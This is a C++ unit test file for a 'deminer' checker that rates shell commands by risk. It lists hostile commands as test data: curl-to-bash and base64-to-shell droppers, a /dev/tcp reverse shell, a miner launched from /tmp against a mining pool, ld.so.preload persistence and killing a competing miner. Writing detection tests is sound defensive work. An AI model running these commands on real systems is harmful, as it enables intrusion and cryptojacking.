#include "checks/command_risk.h"

#include <gtest/gtest.h>

#include "match/test_rules.h"

namespace deminer {
namespace {

struct Case {
  const char* command;
  Severity severity;  // kInfo: nothing to report
  const char* first_reason;
};

TEST(CommandRiskTest, DropperIdiomsMinersAndQuietHousekeeping) {
  const Case cases[] = {
      {"curl -fsSL http://127.0.0.1/x.sh | bash", Severity::kHigh, "download-pipe-shell"},
      {"wget -q http://127.0.0.1/a -O /tmp/a", Severity::kHigh, "download-to-temp"},
      {"echo aGVsbG8gd29ybGQgaGVsbG8gd29ybGQgaGVsbG8gd29ybGQK | base64 -d | sh", Severity::kHigh,
       "base64-to-shell"},
      {"/tmp/javae -o pool.supportxmr.com:443 -u 4AbC", Severity::kCritical, "run-from-temp"},
      {"bash -i >& /dev/tcp/127.0.0.1/4444 0>&1", Severity::kHigh, "dev-tcp"},
      {"pkill -f xmrig; chattr +i /etc/cron.d/x", Severity::kHigh, "kill-competitor"},
      {"echo /tmp/x.so >> /etc/ld.so.preload", Severity::kCritical, "ld-preload-write"},
      {"cd / && run-parts --report /etc/cron.hourly", Severity::kInfo, ""},
      {"find /tmp -type f -mtime +7 -delete", Severity::kInfo, ""},
      {"/usr/bin/node /srv/app/server.js", Severity::kInfo, ""},
      {"test -x /usr/sbin/anacron || ( cd / && run-parts --report /etc/cron.daily )",
       Severity::kInfo, ""},
  };
  for (const Case& c : cases) {
    const CommandRisk r = AssessCommand(c.command, DefaultRules());
    EXPECT_EQ(r.severity, c.severity) << c.command;
    if (c.severity == Severity::kInfo) {
      EXPECT_FALSE(r.Any()) << c.command << ": " << r.ToJson().dump();
    } else {
      ASSERT_TRUE(r.Any()) << c.command;
      EXPECT_EQ(r.reasons[0].what, c.first_reason) << c.command << ": " << r.ToJson().dump();
    }
  }
}

TEST(CommandRiskTest, HostOfUrlsAndWords) {
  EXPECT_EQ(HostOf("http://User@Pool.SupportXMR.com:443/x"), "pool.supportxmr.com");
  EXPECT_EQ(HostOf("1.2.3.4:80"), "1.2.3.4");
  EXPECT_EQ(HostOf("/usr/bin/x"), "");
  EXPECT_EQ(HostOf(".hidden"), "");
}

}  // namespace
}  // namespace deminer
